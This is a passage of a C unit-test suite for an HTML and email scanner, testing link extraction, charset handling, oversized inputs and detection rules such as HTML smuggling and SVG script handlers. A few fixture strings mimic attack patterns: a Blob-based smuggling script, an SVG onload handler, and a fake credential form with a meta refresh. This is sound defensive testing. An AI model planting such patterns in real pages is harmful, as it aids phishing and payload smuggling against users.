		    "open?upn=%d\" width=1 height=1 alt=\"\" style=\"display:"
		    "none\"></td></tr>\n", i, i, i, i);
	sbuf_puts(&b, "<tr><td><form action=\"https://www.hospital.example/"
	    "search\" method=get><input type=text name=q placeholder="
	    "\"Search\"><input type=submit value=Go></form></td></tr>"
	    "<tr><td><a href=\"https://news.example/unsubscribe?u=abc\">"
	    "Unsubscribe</a> | <a href=\"https://news.example/view\">View "
	    "online</a></td></tr></table></body></html>\n");
	return sbuf_steal(&b, NULL);
}

START_TEST(benign_newsletter)
{
	char *doc = newsletter();
	struct msgctx *m = scan_body(doc);
	struct links *k = links_of(doc, 0);
	int i;

	ck_assert(!any_html_rule(m));
	ck_assert_uint_eq(m->nfindings, 0);
	msgctx_free(&m);
	/* 40 links, 40 pixels, a background, a form, 2 footer links. */
	ck_assert_uint_eq(k->n, MAXL);
	ck_assert_int_ge(link_find(k, "https://news.example/bg.png"), 0);
	i = link_find(k, "https://click.news.example/ls/click?upn="
	    "aXJ0eXVpb3Bhc2RmZ2hqa2w0zxcvbnm&id=0");
	ck_assert_int_ge(i, 0);
	ck_assert_str_eq(k->anchor[i], "Article 0 \xc2\xbb");
	free(k);
	m = scan(doc, strlen(doc), "news.html", "text/html", NULL, 0);
	ck_assert(!any_html_rule(m));
	msgctx_free(&m);
	free(doc);
}
END_TEST

/* ---- charsets ---------------------------------------------------------- */

START_TEST(charsets)
{
	/* ISO-2022-JP: 検査 is ESC $ B 3 F : : in JIS; here a JIS run that
	 * contains '<' and '"' bytes must not create a fake tag. */
	static const char jis[] =
	    "<p>\x1b$B8!::\x1b(B <a href=\"https://jis.example/\">\x1b$B$3$l"
	    "\x1b(B</a> \x1b$B$<\"<\x1b(B</p>";
	unsigned char u16[512];
	const char *src = "<a href=\"https://utf16.example/\">x</a><script>"
	    "var b=new Blob([1]);URL.createObjectURL(b)</script>";
	struct msgctx *m;
	size_t n = 0;

	m = scan(jis, sizeof(jis) - 1, NULL, "text/html", "iso-2022-jp", 0);
	ck_assert(!any_html_rule(m));
	msgctx_free(&m);
	m = scan(jis, sizeof(jis) - 1, NULL, "text/html", NULL, 0);
	ck_assert(!any_html_rule(m));
	msgctx_free(&m);
	u16[n++] = 0xff;
	u16[n++] = 0xfe;
	for (size_t i = 0; src[i] != '\0'; i++) {
		u16[n++] = (unsigned char)src[i];
		u16[n++] = 0;
	}
	m = scan(u16, n, "a.html", "text/html", NULL, 0);
	ck_assert(msgctx_has_rule(m, "html.smuggling"));
	msgctx_free(&m);
}
END_TEST

/* ---- hostile input ---------------------------------------------------- */

static double
now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

static void
count_link(void *arg, const struct html_link *l)
{
	(void)l;
	(*(size_t *)arg)++;
}

START_TEST(hostile_sizes)
{
	const size_t big = 8u << 20;
	unsigned char *doc = mem_alloc(big);
	size_t n = 0, i;
	double t0;
	struct msgctx *m;

	/* Deep nesting: no recursion anywhere. */
	for (i = 0; i + 3 <= big; i += 3)
		memcpy(doc + i, "<a>", 3);
	t0 = now_s();
	html_links(doc, i, 0, count_link, &n);
	ck_assert_uint_eq(n, 0);
	/* Pathological shapes stay linear. */
	memset(doc, '<', big);
	html_links(doc, big, 0, count_link, &n);
	memset(doc, '&', big);
	html_links(doc, big, 0, count_link, &n);
	memcpy(doc, "<script>", 8);
	memset(doc + 8, '<', big - 8);
	html_links(doc, big, 0, count_link, &n);
	memcpy(doc, "<!--", 4);
	memset(doc + 4, '>', big - 4);
	html_links(doc, big, 0, count_link, &n);
	memset(doc, 'A', big);		/* one 8 MiB base64 run */
	html_links(doc, big, 0, count_link, &n);
	ck_assert_msg(now_s() - t0 < 20.0, "took %.1f s", now_s() - t0);
	/* Many links: at most HTML_MAX_LINKS go on. */
	for (i = 0; i + 24 <= big; i += 24)
		memcpy(doc + i, "<img src=http://a.e/x/>\n", 24);
	n = 0;
	html_links(doc, i, 0, count_link, &n);
	ck_assert_uint_eq(n, HTML_MAX_LINKS);
	/* Attributes past any count are still seen. */
	n = 0;
	for (i = 0; i + 4 <= big / 2; i += 4)
		memcpy(doc + i, " a=1", 4);
	memcpy(doc, "<svg", 4);
	memcpy(doc + i, " onload=x()>", 12);
	m = scan(doc, i + 12, "x.svg", "image/svg+xml", NULL, 0);
	ck_assert(msgctx_has_rule(m, "svg.script"));
	msgctx_free(&m);
	free(doc);
}
END_TEST

START_TEST(hostile_prefixes)
{
	char *doc = newsletter();
	size_t len = strlen(doc), n = 0;
	static const char tricky[] = "<a href='x'<b c=\"d>e</a><form "
	    "action=&#x68;ttp://a.e/><input type=password><!--x--!><script>"
	    "</scr</script ><![CDATA[]]><meta http-equiv=refresh content="
	    "\"0;url=\">&#x1F600;&#1114112;&";

	/* Every prefix of a document is a document. */
	for (size_t i = 0; i <= len; i += 7) {
		unsigned char *copy = mem_dup(doc, i);

		html_links(copy, i, 0, count_link, &n);
		free(copy);
	}
	for (size_t i = 0; i <= sizeof(tricky) - 1; i++) {
		unsigned char *copy = mem_dup(tricky, i);
		struct msgctx *m = scan(copy, i, "t.html", "text/html", NULL,
		    0);

		html_links(copy, i, 1, count_link, &n);
		msgctx_free(&m);
		free(copy);
	}
	ck_assert_uint_gt(n, 0);
	free(doc);
}
END_TEST

static Suite *
html_suite(void)
{
	Suite *s = suite_create("html");
	TCase *tc;

	tc = tcase_create("tokenizer");
	tcase_add_test(tc, tok_basic);
	tcase_add_test(tc, tok_raw);
	tcase_add_test(tc, tok_xml);
	tcase_add_test(tc, tok_broken);
	suite_add_tcase(s, tc);

	tc = tcase_create("values");
	tcase_add_test(tc, entities);
	tcase_add_test(tc, resolve);
	tcase_add_test(tc, data_types);
	tcase_add_test(tc, js_indicators);
	suite_add_tcase(s, tc);

	tc = tcase_create("links");
	tcase_add_test(tc, links_basic);
	tcase_add_test(tc, links_base);
	tcase_add_test(tc, links_refresh_svg);
	tcase_add_test(tc, links_anchor_bounded);
	suite_add_tcase(s, tc);

	tc = tcase_create("smuggling");
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, smuggling_blob);
	tcase_add_test(tc, smuggling_payload);
	tcase_add_test(tc, smuggling_negative);
	suite_add_tcase(s, tc);

	tc = tcase_create("forms_scripts");
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, credential_forms);
	tcase_add_test(tc, meta_refresh);
	tcase_add_test(tc, svg_script);
	tcase_add_test(tc, script_attachment);
	suite_add_tcase(s, tc);

	tc = tcase_create("benign");
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, benign_outlook);
	tcase_add_test(tc, benign_newsletter);
	tcase_add_test(tc, charsets);
	suite_add_tcase(s, tc);

	tc = tcase_create("hostile");
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_set_timeout(tc, 120);
	tcase_add_test(tc, hostile_sizes);
	tcase_add_test(tc, hostile_prefixes);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	SRunner *sr = srunner_create(html_suite());
	int failed;

	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
